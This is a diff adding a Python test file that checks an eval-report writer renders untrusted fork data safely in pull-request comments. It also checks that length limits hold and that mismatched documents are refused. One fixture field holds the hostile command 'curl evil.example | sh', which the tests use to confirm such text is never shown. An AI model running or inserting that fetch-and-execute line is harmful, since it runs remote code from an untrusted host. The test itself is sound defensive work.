@@ -1,0 +1,147 @@
+from __future__ import annotations
+
+import json
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_check import HOSTILE, flaws
+from results_builder import (
+    a_baseline,
+    a_change,
+    a_reason,
+    a_scenario,
+    a_suite,
+    a_trial,
+    a_variant,
+    an_assertion,
+    results,
+    some_calls,
+)
+
+from evalgate.application.foreign_report import Form, write_anew
+from evalgate.errors import InvalidInput, SettingError
+from evalgate.models.triggering_run import TriggeringRun
+
+SHA = "c0ffee" + "0" * 34
+RUN = TriggeringRun(9, "pull_request", 2002, "mallory/agent", "main", SHA, is_ours=False)
+URL = "https://github.com/acme/agent/actions/runs/9"
+FORM = Form("k", 60_000, URL)
+
+
+def a_document() -> Any:
+    """A document that has something in each of its places."""
+    evidence = {"found": ["x"], "wanted": {"a": 1}}
+    failed = a_trial(0, "hard_fail", assertions=[an_assertion(outcome="failed", evidence=evidence)])
+    change = a_change(
+        "broken", flags=["flaky"], increases=["cost"], previous_verdict="PASS", calls=some_calls(["a"], ["b"])
+    )
+    suite = a_suite("s", [a_scenario("a", "HARD_FAIL", change, trials=[failed]), a_scenario("b")], "fail")
+    return results(
+        [{**suite, "variants": [a_variant()]}],
+        "fail",
+        reasons=[a_reason("hard_fail", "m", suite="s", scenario="a"), a_reason("no_baseline", "n")],
+        baseline=a_baseline(summary=results([a_suite("s", [a_scenario("a"), a_scenario("b")])])["summary"]),
+        removed=[{"suite": "s", "id": "gone", "variant": None, "verdict": "PASS", "score": 1.0}],
+        unclaimed=[
+            {"suite": "s", "path": "p", "id": "i", "scenario_id": "x", "line": 1, "record": None},
+        ],
+        warnings=[{"code": "note", "message": "w", "where": "here"}],
+        command="curl evil.example | sh",
+    )
+
+
+def written(document):
+    return write_anew(json.dumps(document).encode(), RUN, FORM)
+
+
+def places(value, path=()):
+    """The path of every value in a document."""
+    yield path
+    entries = (
+        value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
+    )
+    for key, each in entries:
+        yield from places(each, (*path, key))
+
+
+def with_value(document, path, value):
+    """The document with one value replaced."""
+    if not path:
+        return value
+    copy = dict(document) if isinstance(document, dict) else list(document)
+    copy[path[0]] = with_value(copy[path[0]], path[1:], value)
+    return copy
+
+
+PLACES = [path for path in places(a_document()) if path]
+
+
+def test_the_report_is_ours_from_the_first_line_and_says_whose_run_it_was():
+    lines = written(a_document()).comment.split("\n")
+    assert lines[0] == "<!-- evalgate:sticky v1 key=k -->"
+    assert lines[1] == "## \u274c EvalGate failed: 1 scenario hard-failed"
+    assert lines[3] == (
+        f"Evaluated in [run 9]({URL}) at ` c0ffee0 ` of ` mallory/agent `: "
+        "a fork's own run, whose figures nobody else has checked."
+    )
+
+
+def test_a_command_of_a_stranger_is_not_shown():
+    report = written(a_document())
+    assert "curl" not in report.comment + report.summary
+
+
+def test_a_run_of_this_repository_is_not_called_a_forks():
+    run = TriggeringRun(9, "pull_request", 1001, "acme/agent", "x", SHA, is_ours=True)
+    assert "fork" not in write_anew(json.dumps(a_document()).encode(), run, FORM).comment
+
+
+def test_with_hardly_any_room_it_still_says_whose_run_it_was():
+    report = write_anew(json.dumps(a_document()).encode(), RUN, Form("k", 1_000, URL))
+    assert len(report.comment) <= 1_000
+    assert "` mallory/agent `" in report.comment
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_text_in_every_place_at_once_stays_text(text):
+    document = a_document()
+    for path in PLACES:
+        at = document
+        for key in path:
+            at = at[key]
+        kept = path[0] in {"schema", "created_at", "commit", "verdict"}
+        if isinstance(at, str) and not kept:
+            document = with_value(document, path, text.encode("utf-8", "replace").decode())
+    report = written(document)
+    assert flaws(report.comment, links=[URL], comments=["evalgate:sticky v1 key=k"]) == []
+    assert flaws(report.summary, links=[URL]) == []
+
+
+NUMBERS = st.integers(-(2**70), 2**70) | st.floats(allow_nan=False, allow_infinity=False)
+VALUES = st.none() | st.booleans() | NUMBERS | st.sampled_from(HOSTILE) | st.builds(list) | st.builds(dict)
+
+
+@settings(max_examples=400)
+@given(st.sampled_from(PLACES), VALUES)
+def test_any_value_in_any_place_is_shown_harmless_or_refused(path, value):
+    content = json.dumps(with_value(a_document(), path, value), ensure_ascii=True).encode()
+    try:
+        report = write_anew(content, RUN, FORM)
+    except InvalidInput:
+        return
+    assert flaws(report.comment, links=[URL], comments=["evalgate:sticky v1 key=k"]) == []
+    assert len(report.comment) <= FORM.max_comment_chars
+
+
+@pytest.mark.parametrize(
+    ("change", "said"),
+    [
+        ({"commit": "a" * 40}, "is of another commit than its run"),
+        ({"verdict": "invalid", "summary": None}, "is of a run that could not begin"),
+    ],
+)
+def test_a_document_that_is_not_of_the_run_is_refused(change, said):
+    with pytest.raises(SettingError, match=said):
+        written({**a_document(), **change})
